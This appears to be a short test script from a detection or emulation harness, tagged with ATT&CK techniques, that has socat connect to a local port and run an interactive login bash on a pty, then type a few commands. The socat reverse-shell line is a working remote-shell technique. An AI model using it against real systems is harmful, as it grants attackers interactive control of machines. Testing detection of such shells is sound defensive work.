# socat connects out and runs a login bash on a pty.
# ATT&CK: T1059.004, T1071
. ./session.sh
victim_connects socat "exec:'bash -li',pty,stderr,setsid,sigint,sane" "tcp:127.0.0.1:$port" <<'TYPED'
id
tty
exit
TYPED
